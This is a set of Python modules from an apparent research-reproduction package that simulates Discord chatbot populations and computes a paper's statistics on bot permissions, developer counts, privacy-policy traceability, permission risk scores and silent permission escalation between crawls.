    cache; lookup helpers decode ranks instead of scanning.  The filter
    helpers (``with_valid_permissions`` …) still return real lists — they
    exist for API compatibility and small populations; the streamed
    pipeline never calls them.
    """

    def __init__(self, config: EcosystemConfig, cache_size: int = 4096) -> None:
        self.config = config
        self.stream = EcosystemStream(config)
        self.bots = _LazyBots(self.stream, cache_size=cache_size)
        self._top: list[BotProfile] = []

    @property
    def overlay(self) -> MelonianOverlay | None:
        return self.stream.overlay

    @property
    def developers(self) -> dict[str, Developer]:
        """Materialized developer map — O(n); for compatibility only."""
        return {dev.tag: dev for dev in self.stream.iter_developers()}

    def bot_by_name(self, name: str) -> BotProfile | None:
        return resolve_by_name(self.bots, self.stream.overlay, name)

    def bot_by_client_id(self, client_id: int) -> BotProfile | None:
        return resolve_by_client_id(self.bots, client_id)

    def top_voted(self, count: int) -> list[BotProfile]:
        """The ``count`` most-voted bots (votes are non-increasing in rank).

        The returned prefix is *pinned*: the honeypot sample must be the
        same object graph every call, because adversarial planting mutates
        ``bot.behavior`` on it and a freshly streamed instance would lose
        that mutation.  A pipeline pins at most its honeypot sample size —
        a bounded prefix, not the population.
        """
        count = min(max(count, 0), len(self.bots))
        while len(self._top) < count:
            self._top.append(self.bots[len(self._top)])
        return self._top[:count]

    def with_valid_permissions(self) -> list[BotProfile]:
        return [bot for bot in self.bots if bot.has_valid_permissions]

    def websites(self) -> list[BotProfile]:
        return [bot for bot in self.bots if bot.website_host]

    def github_linked(self) -> list[BotProfile]:
        return [bot for bot in self.bots if bot.github is not None]


def generate_ecosystem(config: EcosystemConfig | None = None) -> Ecosystem:
    """Materialize the full population deterministically from ``config.seed``.

    Equivalent, bot for bot, to ``list(EcosystemStream(config).iter_bots())``
    — the streamed and materialized representations cannot drift because
    they are produced by the same per-rank definition.
    """
    config = config or EcosystemConfig()
    stream = EcosystemStream(config, block_cache=4)
    bots = list(stream.iter_bots())
    developers = {dev.tag: dev for dev in stream.iter_developers()}
    return Ecosystem(config=config, bots=bots, developers=developers, overlay=stream.overlay)


def _generate_bot(
    index: int,
    name: str,
    developer: Developer,
    tags: list[str],
    rng: random.Random,
    targets: Targets,
) -> BotProfile:
    """Sequential-RNG bot builder kept for epoch evolution's fresh entrants.

    Evolved snapshots are materialized mutations, not stream-addressable
    populations, so their new bots draw from the caller's shared RNG the way
    the original generator did.
    """
    invite_status = _sample_invite_status(rng, targets)
    permissions = _sample_permissions(rng, targets) if invite_status is InviteStatus.VALID else Permissions.none()
    scopes = _sample_scopes(rng, targets) if invite_status is InviteStatus.VALID else (OAuthScope.BOT,)
    population = targets.population
    guild_count = int(10 ** rng.gauss(population.guild_count_log10_mean, population.guild_count_log10_sigma))
    guild_count = min(guild_count, population.max_guild_count)
    votes = min(
        int(10 ** rng.gauss(population.vote_count_log10_mean, population.vote_count_log10_sigma)),
        population.max_vote_count,
    )

    trace = targets.traceability
    has_website = rng.random() < trace.website_fraction
    website_host = f"{name.lower()}.botsite.sim" if has_website else None
    policy_present = has_website and rng.random() < trace.policy_link_given_website
    link_valid = policy_present and rng.random() < trace.valid_policy_given_link
    policy = sample_policy_spec(
        rng,
        present=policy_present,
        link_valid=link_valid,
        complete_fraction=trace.complete_fraction,
        categories_mentioned_weights=trace.categories_mentioned_weights,
        generic_reuse_fraction=trace.generic_reuse_fraction,
    )
    policy_text = render_policy(policy, name, rng) if policy.present and policy.link_valid else ""
    github = _sample_github(rng, targets, developer.tag.split("#")[0], name)

    return BotProfile(
        index=index,
        client_id=_CLIENT_ID_BASE + index,
        name=name,
        developer_tag=developer.tag,
        tags=tags,
        description=naming.bot_description(rng, name, tags),
        guild_count=guild_count,
        votes=votes,
        invite_status=invite_status,
        permissions=permissions,
        scopes=scopes,
        website_host=website_host,
        policy=policy,
        policy_text=policy_text,
        github=github,
        behavior=behaviors.BENIGN,
        built_with=developer.uses_platform,
    )


def iter_bot_dicts(bots: Iterable[BotProfile]) -> Iterator[dict]:
    """Compact JSON-able projection of profiles (used by spill tooling)."""
    for bot in bots:
        yield {
            "index": bot.index,
            "name": bot.name,
            "developer": bot.developer_tag,
            "votes": bot.votes,
            "guilds": bot.guild_count,
            "invite": bot.invite_status.value,
            "behavior": bot.behavior,
        }
