"""Measurement aggregation: the paper's tables and figures.

- :mod:`repro.analysis.permission_stats` — Figure 3 + the 74%/26% split.
- :mod:`repro.analysis.developer_stats` — Table 1.
- :mod:`repro.analysis.traceability_stats` — Table 2.
- :mod:`repro.analysis.code_stats` — the Section 4.2 code-analysis numbers.
- :mod:`repro.analysis.tables` — ASCII rendering for tables and bar charts.
"""

from repro.analysis.permission_stats import PermissionDistribution
from repro.analysis.developer_stats import DeveloperDistribution
from repro.analysis.traceability_stats import TraceabilitySummary
from repro.analysis.code_stats import CodeAnalysisSummary
from repro.analysis.risk import RiskSummary, over_privilege_index, risk_score
from repro.analysis.longitudinal import SnapshotDelta, compare_snapshots, trend
from repro.analysis.cdn_abuse import CdnAbuseScanner, CdnScanReport
from repro.analysis.paper import PAPER_METRICS, compare_with_paper
from repro.analysis.tables import render_bar_chart, render_table

__all__ = [
    "CdnAbuseScanner",
    "CdnScanReport",
    "CodeAnalysisSummary",
    "DeveloperDistribution",
    "PAPER_METRICS",
    "PermissionDistribution",
    "compare_with_paper",
    "RiskSummary",
    "SnapshotDelta",
    "TraceabilitySummary",
    "compare_snapshots",
    "over_privilege_index",
    "render_bar_chart",
    "render_table",
    "risk_score",
    "trend",
]
