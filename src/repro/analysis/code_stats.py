"""Section 4.2 code-analysis aggregates.

Reproduces every number in the "Discord Chatbots Code Analysis" paragraphs:
GitHub-link rate, valid-repository rate, source-availability rate, language
shares, and per-language permission-check rates.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field

from repro.codeanalysis.analyzer import ANALYZED_LANGUAGES, RepoAnalysis


@dataclass
class CodeAnalysisSummary:
    """Aggregate over per-repo analyses for an active-bot population."""

    active_bots: int = 0
    github_links: int = 0
    analyses: list[RepoAnalysis] = field(default_factory=list)

    @classmethod
    def from_analyses(
        cls,
        active_bots: int,
        github_links: int,
        analyses: list[RepoAnalysis],
    ) -> "CodeAnalysisSummary":
        return cls(active_bots=active_bots, github_links=github_links, analyses=list(analyses))

    # -- link funnel ------------------------------------------------------------

    @property
    def github_link_percent(self) -> float:
        """Bots with GitHub links on their description page (23.86%)."""
        return 100.0 * self.github_links / self.active_bots if self.active_bots else 0.0

    @property
    def valid_repos(self) -> int:
        return sum(1 for analysis in self.analyses if analysis.link_valid)

    @property
    def valid_repo_percent_of_links(self) -> float:
        """Links leading to valid repositories (60.46%)."""
        return 100.0 * self.valid_repos / self.github_links if self.github_links else 0.0

    @property
    def with_source_code(self) -> int:
        return sum(1 for analysis in self.analyses if analysis.has_source_code)

    @property
    def source_percent_of_active(self) -> float:
        """Bots with publicly available source (14.39%)."""
        return 100.0 * self.with_source_code / self.active_bots if self.active_bots else 0.0

    # -- languages -----------------------------------------------------------------

    def language_counts(self) -> dict[str, int]:
        counter: Counter = Counter(
            analysis.main_language for analysis in self.analyses if analysis.link_valid and analysis.main_language
        )
        return dict(counter)

    def language_percent(self, language: str) -> float:
        """Percent of valid repositories whose main language is ``language``."""
        if not self.valid_repos:
            return 0.0
        return 100.0 * self.language_counts().get(language, 0) / self.valid_repos

    # -- permission checks -------------------------------------------------------------

    def repos_for_language(self, language: str) -> list[RepoAnalysis]:
        return [
            analysis
            for analysis in self.analyses
            if analysis.has_source_code and analysis.main_language == language
        ]

    def check_rate(self, language: str) -> float:
        """Fraction of ``language`` repos containing a Table-3 check API."""
        repos = self.repos_for_language(language)
        if not repos:
            return 0.0
        return sum(1 for analysis in repos if analysis.performs_check) / len(repos)

    def check_table(self) -> list[tuple[str, int, int, float]]:
        """Rows of ``(language, analyzed, with_checks, percent)``."""
        rows = []
        for language in ANALYZED_LANGUAGES:
            repos = self.repos_for_language(language)
            with_checks = sum(1 for analysis in repos if analysis.performs_check)
            percent = 100.0 * with_checks / len(repos) if repos else 0.0
            rows.append((language, len(repos), with_checks, percent))
        return rows
