"""Section 4.2 code-analysis aggregates.

Reproduces every number in the "Discord Chatbots Code Analysis" paragraphs:
GitHub-link rate, valid-repository rate, source-availability rate, language
shares, and per-language permission-check rates.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Iterable

from repro.codeanalysis.analyzer import ANALYZED_LANGUAGES, RepoAnalysis


@dataclass
class CodeAnalysisSummary:
    """Aggregate over per-repo analyses for an active-bot population.

    Counter-based, filled in one pass by :meth:`from_analyses` — the
    streamed pipeline feeds it straight from a disk spill, so the summary
    must never retain the per-repo analysis list.
    """

    active_bots: int = 0
    github_links: int = 0
    valid_repos: int = 0
    with_source_code: int = 0
    #: ``language -> count`` over valid repos with a main language.
    language_tally: Counter = field(default_factory=Counter)
    #: ``language -> count`` over repos with available source.
    analyzed_tally: Counter = field(default_factory=Counter)
    #: ``language -> count`` over analyzed repos containing a check API.
    check_tally: Counter = field(default_factory=Counter)

    @classmethod
    def from_analyses(
        cls,
        active_bots: int,
        github_links: int,
        analyses: Iterable[RepoAnalysis],
    ) -> "CodeAnalysisSummary":
        summary = cls(active_bots=active_bots, github_links=github_links)
        for analysis in analyses:
            summary.add(analysis)
        return summary

    def add(self, analysis: RepoAnalysis) -> None:
        if analysis.link_valid:
            self.valid_repos += 1
            if analysis.main_language:
                self.language_tally[analysis.main_language] += 1
        if analysis.has_source_code:
            self.with_source_code += 1
            if analysis.main_language:
                self.analyzed_tally[analysis.main_language] += 1
                if analysis.performs_check:
                    self.check_tally[analysis.main_language] += 1

    # -- link funnel ------------------------------------------------------------

    @property
    def github_link_percent(self) -> float:
        """Bots with GitHub links on their description page (23.86%)."""
        return 100.0 * self.github_links / self.active_bots if self.active_bots else 0.0

    @property
    def valid_repo_percent_of_links(self) -> float:
        """Links leading to valid repositories (60.46%)."""
        return 100.0 * self.valid_repos / self.github_links if self.github_links else 0.0

    @property
    def source_percent_of_active(self) -> float:
        """Bots with publicly available source (14.39%)."""
        return 100.0 * self.with_source_code / self.active_bots if self.active_bots else 0.0

    # -- languages -----------------------------------------------------------------

    def language_counts(self) -> dict[str, int]:
        return dict(self.language_tally)

    def language_percent(self, language: str) -> float:
        """Percent of valid repositories whose main language is ``language``."""
        if not self.valid_repos:
            return 0.0
        return 100.0 * self.language_tally.get(language, 0) / self.valid_repos

    # -- permission checks -------------------------------------------------------------

    def check_rate(self, language: str) -> float:
        """Fraction of ``language`` repos containing a Table-3 check API."""
        analyzed = self.analyzed_tally.get(language, 0)
        if not analyzed:
            return 0.0
        return self.check_tally.get(language, 0) / analyzed

    def check_table(self) -> list[tuple[str, int, int, float]]:
        """Rows of ``(language, analyzed, with_checks, percent)``."""
        rows = []
        for language in ANALYZED_LANGUAGES:
            analyzed = self.analyzed_tally.get(language, 0)
            with_checks = self.check_tally.get(language, 0)
            percent = 100.0 * with_checks / analyzed if analyzed else 0.0
            rows.append((language, analyzed, with_checks, percent))
        return rows
