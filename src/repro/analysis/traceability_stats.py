"""Table 2: Discord traceability results."""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field

from repro.traceability.analyzer import TraceabilityClass, TraceabilityResult


@dataclass
class TraceabilitySummary:
    """Aggregate of per-bot traceability results (over active bots)."""

    results: list[TraceabilityResult] = field(default_factory=list)

    @classmethod
    def from_results(cls, results: list[TraceabilityResult]) -> "TraceabilitySummary":
        return cls(results=list(results))

    # -- Table 2 rows ---------------------------------------------------------

    @property
    def active_bots(self) -> int:
        return len(self.results)

    @property
    def with_website(self) -> int:
        return sum(1 for result in self.results if result.has_website)

    @property
    def with_policy_link(self) -> int:
        return sum(1 for result in self.results if result.has_policy_link)

    @property
    def with_valid_policy(self) -> int:
        return sum(1 for result in self.results if result.policy_page_valid)

    def _percent(self, count: int) -> float:
        return 100.0 * count / self.active_bots if self.active_bots else 0.0

    def table2(self) -> list[tuple[str, int, float]]:
        """Rows of ``(feature, count, percent)`` matching the paper's Table 2."""
        return [
            ("Unique active chatbots", self.active_bots, 100.0),
            ("Website Link", self.with_website, self._percent(self.with_website)),
            ("Privacy Policy Link", self.with_policy_link, self._percent(self.with_policy_link)),
            ("Privacy Policy", self.with_valid_policy, self._percent(self.with_valid_policy)),
        ]

    # -- classification breakdown ------------------------------------------------

    def classification_counts(self) -> dict[str, int]:
        counter: Counter = Counter(result.classification.value for result in self.results)
        return {cls.value: counter.get(cls.value, 0) for cls in TraceabilityClass}

    @property
    def broken_fraction(self) -> float:
        """The paper's 95.67% broken-traceability headline."""
        if not self.results:
            return 0.0
        broken = self.classification_counts()[TraceabilityClass.BROKEN.value]
        return broken / self.active_bots

    @property
    def complete_count(self) -> int:
        return self.classification_counts()[TraceabilityClass.COMPLETE.value]

    @property
    def partial_count(self) -> int:
        return self.classification_counts()[TraceabilityClass.PARTIAL.value]

    @property
    def generic_fraction_of_valid(self) -> float:
        """Among valid policies, the share that are generic boilerplate."""
        valid = [result for result in self.results if result.policy_page_valid]
        if not valid:
            return 0.0
        return sum(1 for result in valid if result.generic_policy) / len(valid)
