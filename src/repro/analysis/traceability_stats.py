"""Table 2: Discord traceability results."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable

from repro.traceability.analyzer import TraceabilityClass, TraceabilityResult


@dataclass
class TraceabilitySummary:
    """Aggregate of per-bot traceability results (over active bots).

    Holds only counters, filled in one pass by :meth:`from_results` — the
    streamed pipeline feeds it straight from a disk spill, so the summary
    must never retain the per-bot result list (that list is the population).
    """

    active_bots: int = 0
    with_website: int = 0
    with_policy_link: int = 0
    with_valid_policy: int = 0
    generic_valid: int = 0
    class_counts: dict[str, int] = field(
        default_factory=lambda: {cls.value: 0 for cls in TraceabilityClass}
    )

    @classmethod
    def from_results(cls, results: Iterable[TraceabilityResult]) -> "TraceabilitySummary":
        summary = cls()
        for result in results:
            summary.add(result)
        return summary

    def add(self, result: TraceabilityResult) -> None:
        self.active_bots += 1
        if result.has_website:
            self.with_website += 1
        if result.has_policy_link:
            self.with_policy_link += 1
        if result.policy_page_valid:
            self.with_valid_policy += 1
            if result.generic_policy:
                self.generic_valid += 1
        self.class_counts[result.classification.value] += 1

    # -- Table 2 rows ---------------------------------------------------------

    def _percent(self, count: int) -> float:
        return 100.0 * count / self.active_bots if self.active_bots else 0.0

    def table2(self) -> list[tuple[str, int, float]]:
        """Rows of ``(feature, count, percent)`` matching the paper's Table 2."""
        return [
            ("Unique active chatbots", self.active_bots, 100.0),
            ("Website Link", self.with_website, self._percent(self.with_website)),
            ("Privacy Policy Link", self.with_policy_link, self._percent(self.with_policy_link)),
            ("Privacy Policy", self.with_valid_policy, self._percent(self.with_valid_policy)),
        ]

    # -- classification breakdown ------------------------------------------------

    def classification_counts(self) -> dict[str, int]:
        return {cls.value: self.class_counts.get(cls.value, 0) for cls in TraceabilityClass}

    @property
    def broken_fraction(self) -> float:
        """The paper's 95.67% broken-traceability headline."""
        if not self.active_bots:
            return 0.0
        return self.class_counts[TraceabilityClass.BROKEN.value] / self.active_bots

    @property
    def complete_count(self) -> int:
        return self.class_counts[TraceabilityClass.COMPLETE.value]

    @property
    def partial_count(self) -> int:
        return self.class_counts[TraceabilityClass.PARTIAL.value]

    @property
    def generic_fraction_of_valid(self) -> float:
        """Among valid policies, the share that are generic boilerplate."""
        if not self.with_valid_policy:
            return 0.0
        return self.generic_valid / self.with_valid_policy
