"""Permission risk scoring and over-privilege analysis.

The paper's conclusion targets "over-privileged chatbots that collect
sensitive information or are endowed with excessive capabilities".  This
module operationalises that: a per-permission risk weight (in the spirit of
the quantitative Android-permission risk literature the paper cites), a
per-bot risk score, and an *over-privilege index* comparing what a bot
requests against what its declared purpose (listing tags) plausibly needs.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.discordsim.permissions import Permission, Permissions
from repro.scraper.topgg import ScrapedBot

#: Risk weight per permission (0 = harmless, 10 = guild takeover).
RISK_WEIGHTS: dict[Permission, int] = {
    Permission.ADMINISTRATOR: 10,
    Permission.MANAGE_GUILD: 8,
    Permission.MANAGE_ROLES: 8,
    Permission.MANAGE_WEBHOOKS: 7,
    Permission.BAN_MEMBERS: 7,
    Permission.KICK_MEMBERS: 6,
    Permission.MANAGE_CHANNELS: 6,
    Permission.MANAGE_MESSAGES: 5,
    Permission.MANAGE_NICKNAMES: 4,
    Permission.MENTION_EVERYONE: 4,
    Permission.VIEW_AUDIT_LOG: 4,
    Permission.MODERATE_MEMBERS: 5,
    Permission.MANAGE_THREADS: 4,
    Permission.MANAGE_EVENTS: 3,
    Permission.MANAGE_EMOJIS_AND_STICKERS: 2,
    Permission.READ_MESSAGE_HISTORY: 4,
    Permission.VIEW_CHANNEL: 3,
    Permission.VIEW_GUILD_INSIGHTS: 3,
    Permission.MOVE_MEMBERS: 3,
    Permission.MUTE_MEMBERS: 3,
    Permission.DEAFEN_MEMBERS: 3,
    Permission.SEND_TTS_MESSAGES: 2,
    Permission.ATTACH_FILES: 2,
    Permission.EMBED_LINKS: 1,
    Permission.SEND_MESSAGES: 1,
    Permission.ADD_REACTIONS: 1,
    Permission.CREATE_INSTANT_INVITE: 2,
    Permission.CHANGE_NICKNAME: 1,
    Permission.CONNECT: 2,
    Permission.SPEAK: 1,
    Permission.STREAM: 1,
    Permission.USE_VAD: 1,
    Permission.PRIORITY_SPEAKER: 1,
    Permission.USE_EXTERNAL_EMOJIS: 1,
    Permission.USE_EXTERNAL_STICKERS: 1,
    Permission.USE_APPLICATION_COMMANDS: 1,
    Permission.REQUEST_TO_SPEAK: 1,
    Permission.CREATE_PUBLIC_THREADS: 1,
    Permission.CREATE_PRIVATE_THREADS: 2,
    Permission.SEND_MESSAGES_IN_THREADS: 1,
    Permission.USE_EMBEDDED_ACTIVITIES: 1,
}

#: What a bot with a given listing tag plausibly needs.
TAG_PERMISSION_PROFILES: dict[str, frozenset[Permission]] = {
    "moderation": frozenset(
        {
            Permission.KICK_MEMBERS,
            Permission.BAN_MEMBERS,
            Permission.MANAGE_MESSAGES,
            Permission.MANAGE_NICKNAMES,
            Permission.MODERATE_MEMBERS,
            Permission.VIEW_AUDIT_LOG,
        }
    ),
    "music": frozenset({Permission.CONNECT, Permission.SPEAK, Permission.USE_VAD, Permission.PRIORITY_SPEAKER}),
    "logging": frozenset({Permission.READ_MESSAGE_HISTORY, Permission.VIEW_AUDIT_LOG}),
    "welcome": frozenset({Permission.MANAGE_NICKNAMES, Permission.MANAGE_ROLES}),
    "leveling": frozenset({Permission.MANAGE_ROLES}),
    "roleplay": frozenset({Permission.MANAGE_ROLES}),
    "giveaways": frozenset({Permission.MENTION_EVERYONE, Permission.ADD_REACTIONS}),
    "polls": frozenset({Permission.ADD_REACTIONS, Permission.EMBED_LINKS}),
}

#: Permissions any interactive chatbot is assumed to need.
BASELINE_PERMISSIONS: frozenset[Permission] = frozenset(
    {
        Permission.VIEW_CHANNEL,
        Permission.SEND_MESSAGES,
        Permission.EMBED_LINKS,
        Permission.READ_MESSAGE_HISTORY,
        Permission.ADD_REACTIONS,
        Permission.ATTACH_FILES,
        Permission.USE_EXTERNAL_EMOJIS,
        Permission.USE_APPLICATION_COMMANDS,
    }
)

_MAX_SCORE = float(sum(RISK_WEIGHTS.values()))


def risk_score(permissions: Permissions) -> float:
    """Normalised risk in [0, 1].  ADMINISTRATOR alone maxes the score,
    matching its "allows all permissions" semantics."""
    if permissions.is_administrator:
        return 1.0
    raw = sum(RISK_WEIGHTS.get(flag, 1) for flag in permissions.flags())
    return min(raw / _MAX_SCORE, 1.0)


def expected_permissions(tags: tuple[str, ...] | list[str]) -> frozenset[Permission]:
    """The permission envelope a bot's declared purpose justifies."""
    needed = set(BASELINE_PERMISSIONS)
    for tag in tags:
        needed |= TAG_PERMISSION_PROFILES.get(tag, frozenset())
    return frozenset(needed)


def excess_permissions(permissions: Permissions, tags: tuple[str, ...] | list[str]) -> list[Permission]:
    """Requested permissions that the declared purpose does not justify."""
    envelope = expected_permissions(tags)
    return [flag for flag in permissions.flags() if flag not in envelope]


def over_privilege_index(permissions: Permissions, tags: tuple[str, ...] | list[str]) -> float:
    """Share of the requested risk budget that is unjustified, in [0, 1]."""
    requested = permissions.flags()
    if not requested:
        return 0.0
    if permissions.is_administrator:
        return 1.0  # admin always exceeds any tag profile
    excess = excess_permissions(permissions, tags)
    requested_risk = sum(RISK_WEIGHTS.get(flag, 1) for flag in requested)
    excess_risk = sum(RISK_WEIGHTS.get(flag, 1) for flag in excess)
    return excess_risk / requested_risk if requested_risk else 0.0


@dataclass
class RiskSummary:
    """Population-level risk aggregates over scraped bots."""

    scores: list[float] = field(default_factory=list)
    over_privilege: list[float] = field(default_factory=list)
    high_risk_names: list[str] = field(default_factory=list)

    HIGH_RISK_THRESHOLD = 0.5

    @classmethod
    def from_bots(cls, bots: list[ScrapedBot]) -> "RiskSummary":
        summary = cls()
        for bot in bots:
            if not bot.has_valid_permissions:
                continue
            permissions = bot.permissions
            score = risk_score(permissions)
            summary.scores.append(score)
            summary.over_privilege.append(over_privilege_index(permissions, bot.tags))
            if score >= cls.HIGH_RISK_THRESHOLD:
                summary.high_risk_names.append(bot.name)
        return summary

    @property
    def mean_risk(self) -> float:
        return sum(self.scores) / len(self.scores) if self.scores else 0.0

    @property
    def mean_over_privilege(self) -> float:
        return sum(self.over_privilege) / len(self.over_privilege) if self.over_privilege else 0.0

    @property
    def high_risk_fraction(self) -> float:
        return len(self.high_risk_names) / len(self.scores) if self.scores else 0.0

    def percentile(self, q: float) -> float:
        """Risk-score percentile (q in [0, 100])."""
        if not self.scores:
            return 0.0
        ordered = sorted(self.scores)
        index = min(int(round(q / 100.0 * (len(ordered) - 1))), len(ordered) - 1)
        return ordered[index]
