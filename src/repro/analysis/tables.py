"""ASCII rendering helpers for tables and horizontal bar charts."""

from __future__ import annotations

from typing import Iterable, Sequence


def render_table(headers: Sequence[str], rows: Iterable[Sequence[object]], title: str | None = None) -> str:
    """Render a fixed-width table (the shape the paper's tables take)."""
    materialized = [[str(cell) for cell in row] for row in rows]
    widths = [len(header) for header in headers]
    for row in materialized:
        for index, cell in enumerate(row):
            if index < len(widths):
                widths[index] = max(widths[index], len(cell))
    separator = "+" + "+".join("-" * (width + 2) for width in widths) + "+"
    lines: list[str] = []
    if title:
        lines.append(title)
    lines.append(separator)
    lines.append("| " + " | ".join(header.ljust(width) for header, width in zip(headers, widths)) + " |")
    lines.append(separator)
    for row in materialized:
        padded = [cell.ljust(width) for cell, width in zip(row, widths)]
        lines.append("| " + " | ".join(padded) + " |")
    lines.append(separator)
    return "\n".join(lines)


def render_bar_chart(
    series: Sequence[tuple[str, float]],
    width: int = 50,
    max_value: float | None = None,
    unit: str = "%",
    title: str | None = None,
) -> str:
    """Render a horizontal bar chart (Figure 3's shape)."""
    if not series:
        return title or ""
    peak = max_value if max_value is not None else max(value for _, value in series) or 1.0
    label_width = max(len(label) for label, _ in series)
    lines: list[str] = []
    if title:
        lines.append(title)
    for label, value in series:
        filled = int(round((value / peak) * width)) if peak else 0
        filled = min(max(filled, 0), width)
        lines.append(f"{label.rjust(label_width)} | {'#' * filled}{' ' * (width - filled)} {value:6.2f}{unit}")
    return "\n".join(lines)
