"""Longitudinal analysis over ecosystem snapshots.

Given two (or a series of) population snapshots — e.g. monthly crawls —
quantify churn and, critically, **silent permission escalation**: bots whose
requested permission set grew between crawls without any notice to the
guilds that already installed them.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.analysis.risk import risk_score
from repro.discordsim.permissions import DISPLAY_NAMES, Permission
from repro.ecosystem.generator import BotProfile, Ecosystem


@dataclass
class EscalationRecord:
    bot_name: str
    added_permissions: tuple[str, ...]
    risk_before: float
    risk_after: float

    @property
    def risk_delta(self) -> float:
        return self.risk_after - self.risk_before


@dataclass
class SnapshotDelta:
    """Differences between two consecutive snapshots."""

    added_bots: list[str] = field(default_factory=list)
    removed_bots: list[str] = field(default_factory=list)
    escalations: list[EscalationRecord] = field(default_factory=list)
    reductions: list[str] = field(default_factory=list)
    policy_adopters: list[str] = field(default_factory=list)
    invites_newly_broken: list[str] = field(default_factory=list)

    @property
    def escalation_count(self) -> int:
        return len(self.escalations)

    @property
    def mean_risk_delta(self) -> float:
        if not self.escalations:
            return 0.0
        return sum(record.risk_delta for record in self.escalations) / len(self.escalations)

    def gained_administrator(self) -> list[str]:
        """Bots that silently acquired ADMINISTRATOR — the worst case."""
        admin_label = DISPLAY_NAMES[Permission.ADMINISTRATOR]
        return [
            record.bot_name for record in self.escalations if admin_label in record.added_permissions
        ]


def compare_snapshots(before: Ecosystem, after: Ecosystem) -> SnapshotDelta:
    """Diff two snapshots by bot name (names are stable across epochs)."""
    before_by_name = {bot.name: bot for bot in before.bots}
    after_by_name = {bot.name: bot for bot in after.bots}
    delta = SnapshotDelta()
    delta.added_bots = sorted(set(after_by_name) - set(before_by_name))
    delta.removed_bots = sorted(set(before_by_name) - set(after_by_name))
    for name in set(before_by_name) & set(after_by_name):
        old, new = before_by_name[name], after_by_name[name]
        _diff_bot(old, new, delta)
    delta.escalations.sort(key=lambda record: record.risk_delta, reverse=True)
    return delta


def _diff_bot(old: BotProfile, new: BotProfile, delta: SnapshotDelta) -> None:
    if old.has_valid_permissions and not new.has_valid_permissions:
        delta.invites_newly_broken.append(new.name)
        return
    if old.has_valid_permissions and new.has_valid_permissions:
        gained = new.permissions - old.permissions
        lost = old.permissions - new.permissions
        if gained.value:
            delta.escalations.append(
                EscalationRecord(
                    bot_name=new.name,
                    added_permissions=tuple(DISPLAY_NAMES[flag] for flag in gained.flags()),
                    risk_before=risk_score(old.permissions),
                    risk_after=risk_score(new.permissions),
                )
            )
        elif lost.value:
            delta.reductions.append(new.name)
    if not old.policy.present and new.policy.present:
        delta.policy_adopters.append(new.name)


@dataclass
class TrendPoint:
    """Population-level metrics for one snapshot."""

    epoch: int
    total_bots: int
    admin_rate: float
    policy_rate: float
    mean_risk: float


def trend(snapshots: list[Ecosystem]) -> list[TrendPoint]:
    """Per-snapshot series of the headline ecosystem health metrics."""
    points: list[TrendPoint] = []
    for epoch, snapshot in enumerate(snapshots):
        valid = snapshot.with_valid_permissions()
        admin = sum(1 for bot in valid if bot.permissions.is_administrator)
        policies = sum(1 for bot in snapshot.bots if bot.policy.present and bot.policy.link_valid)
        risks = [risk_score(bot.permissions) for bot in valid]
        points.append(
            TrendPoint(
                epoch=epoch,
                total_bots=len(snapshot.bots),
                admin_rate=admin / len(valid) if valid else 0.0,
                policy_rate=policies / len(snapshot.bots) if snapshot.bots else 0.0,
                mean_risk=sum(risks) / len(risks) if risks else 0.0,
            )
        )
    return points
