"""Table 1: bots distribution by number of developers."""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field

from repro.scraper.topgg import ScrapedBot


@dataclass
class DeveloperDistribution:
    """Developers grouped by how many bots each has published."""

    developer_bot_counts: dict[str, int] = field(default_factory=dict)

    @classmethod
    def from_bots(cls, bots: list[ScrapedBot]) -> "DeveloperDistribution":
        counts: Counter = Counter()
        for bot in bots:
            if bot.developer_tag:
                counts[bot.developer_tag] += 1
        return cls(developer_bot_counts=dict(counts))

    @property
    def total_developers(self) -> int:
        return len(self.developer_bot_counts)

    @property
    def max_bots_by_one_developer(self) -> int:
        return max(self.developer_bot_counts.values(), default=0)

    def most_prolific(self) -> tuple[str, int]:
        """The developer with the most bots (the paper's editid#6714)."""
        if not self.developer_bot_counts:
            return ("", 0)
        tag = max(self.developer_bot_counts, key=lambda key: self.developer_bot_counts[key])
        return (tag, self.developer_bot_counts[tag])

    def table1(self) -> list[tuple[int, int, float]]:
        """Rows of ``(bots_published, developer_count, percent)``."""
        grouped: Counter = Counter(self.developer_bot_counts.values())
        total = self.total_developers or 1
        return [
            (bot_count, developers, 100.0 * developers / total)
            for bot_count, developers in sorted(grouped.items())
        ]

    def percent_with_one_bot(self) -> float:
        """The paper's "89% have published just one chatbot"."""
        for bot_count, _, percent in self.table1():
            if bot_count == 1:
                return percent
        return 0.0
