"""Figure 3: the permission-request distribution.

Also carries the headline 74%-valid / 26%-invalid split and the
"redundant with administrator" indicator discussed in Section 5
(misunderstanding the permission system).
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field

from repro.discordsim.permissions import DISPLAY_NAMES, Permission
from repro.scraper.topgg import PermissionStatus, ScrapedBot


@dataclass
class PermissionDistribution:
    """Permission-request marginals over a scraped population."""

    total_bots: int = 0
    valid_bots: int = 0
    status_counts: Counter = field(default_factory=Counter)
    permission_counts: Counter = field(default_factory=Counter)  # display name -> bots
    scope_counts: Counter = field(default_factory=Counter)  # scope name -> bots
    admin_with_extras: int = 0

    @classmethod
    def from_bots(cls, bots: list[ScrapedBot]) -> "PermissionDistribution":
        dist = cls(total_bots=len(bots))
        for bot in bots:
            dist.status_counts[bot.permission_status.value] += 1
            if not bot.has_valid_permissions:
                continue
            dist.valid_bots += 1
            permissions = bot.permissions
            for flag in permissions.flags():
                dist.permission_counts[DISPLAY_NAMES[flag]] += 1
            for scope in bot.scope_names:
                dist.scope_counts[scope] += 1
            if permissions.redundant_with_administrator():
                dist.admin_with_extras += 1
        return dist

    # -- headline numbers -----------------------------------------------------

    @property
    def valid_fraction(self) -> float:
        return self.valid_bots / self.total_bots if self.total_bots else 0.0

    def percent(self, display_name: str) -> float:
        """Percent of valid-permission bots requesting ``display_name``."""
        if not self.valid_bots:
            return 0.0
        return 100.0 * self.permission_counts.get(display_name, 0) / self.valid_bots

    @property
    def administrator_percent(self) -> float:
        return self.percent(DISPLAY_NAMES[Permission.ADMINISTRATOR])

    @property
    def send_messages_percent(self) -> float:
        return self.percent(DISPLAY_NAMES[Permission.SEND_MESSAGES])

    @property
